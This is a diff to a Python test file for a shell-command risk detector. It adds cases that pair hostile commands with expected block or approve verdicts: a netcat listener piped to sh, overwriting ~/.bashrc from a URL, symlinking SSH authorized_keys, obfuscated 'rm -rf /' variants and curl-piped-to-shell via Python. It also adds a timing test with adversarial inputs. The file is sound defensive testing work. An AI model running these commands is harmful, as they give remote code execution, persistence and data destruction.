@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import collections
 import random
+import time
 
 import pytest
 
@@ -136,6 +137,7 @@ TABLE: list[tuple[str, str, str, str | None]] = [
     ("remote-exec", "$(curl -s url)", APPROVE, "remote_exec"),
     ("remote-exec", "echo ZWNobyBoaQ== | base64 -d | sh", APPROVE, "decoded_exec"),
     ("remote-exec", "cat payload.hex | xxd -r -p | bash", APPROVE, "decoded_exec"),
+    ("remote-exec", "nc -l 4444 | sh", APPROVE, "remote_exec"),
     ("remote-exec", 'bash -c "$(echo ZWNobyBoaQ== | base64 --decode)"', APPROVE, "decoded_exec"),
     ("remote-exec", "bash <<EOF\necho hi\nEOF", APPROVE, "heredoc_exec"),
     ("remote-exec", 'sh <<< "ls"', APPROVE, "heredoc_exec"),
@@ -172,6 +174,8 @@ TABLE: list[tuple[str, str, str, str | None]] = [
     ("sensitive-write", "sed -i.bak 's/x/y/' /etc/ssh/sshd_config", APPROVE, "system_config_write"),
     ("sensitive-write", "curl -o ~/.ssh/authorized_keys https://x/keys", APPROVE, "ssh_write"),
     ("sensitive-write", "echo token >> ~/.git-credentials", APPROVE, "credentials_write"),
+    ("sensitive-write", "wget -O ~/.bashrc https://x/rc", APPROVE, "shell_rc_write"),
+    ("sensitive-write", "ln -sf /tmp/k ~/.ssh/authorized_keys", APPROVE, "ssh_write"),
     # ---- approve: sudo, services, dd ---------------------------------------------------------------------
     ("system", "sudo apt-get install jq", APPROVE, "sudo"),
     ("system", "sudo -u postgres psql", APPROVE, "sudo"),
@@ -232,6 +236,11 @@ TABLE: list[tuple[str, str, str, str | None]] = [
     ("obfuscation", "echo cm0gLXJmIC8= | base64 -d | sh", BLOCK, "delete_root"),
     ("obfuscation", "bash <<'EOF'\nrm -rf /\nEOF", BLOCK, "delete_root"),
     ("obfuscation", "ls # harmless\nrm -rf x", APPROVE, "recursive_delete"),
+    ("obfuscation", "$(echo $(echo rm)) -rf /", BLOCK, "delete_root"),
+    ("obfuscation", "pkexec rm -rf /", BLOCK, "delete_root"),
+    ("obfuscation", "doas rm -rf x", APPROVE, "sudo"),
+    ("obfuscation", 'env -S "rm -rf x"', APPROVE, "recursive_delete"),
+    ("obfuscation", "python3 -c 'import os;os.system(\"curl x | sh\")'", APPROVE, "remote_exec"),
     ("obfuscation", "python3 -c \"import os; os.system('rm -rf /tmp/x')\"", APPROVE, "recursive_delete"),
     ("obfuscation", "python -c \"import shutil; shutil.rmtree('build')\"", APPROVE, "recursive_delete"),
     ("obfuscation", "su -c 'rm -rf x' bob", APPROVE, "recursive_delete"),
@@ -371,6 +380,24 @@ def test_never_raises_on_garbage() -> None:
     deep = "$(" * 500 + "rm -rf x" + ")" * 500
     assert detect(deep) is not None
     assert detect("").matches == []
+
+
+def test_adversarial_inputs_stay_fast() -> None:
+    inputs = [
+        "echo " + "a" * 200_000,
+        "a" * 100_000 + "()",
+        "bash <<EOF\n" + "echo hi\n" * 20_000 + "EOF",
+        "ls; " * 20_000,
+        "a=1; " * 20_000 + "ls",
+        "$(" * 50_000,
+        "`" * 100_001,
+        "'" * 100_001,
+        "curl x | " * 3_000 + "sh",
+    ]
+    for text in inputs:
+        start = time.perf_counter()
+        detect(text)
+        assert time.perf_counter() - start < 5.0, text[:40]
 
 
 def test_compound_detection() -> None:
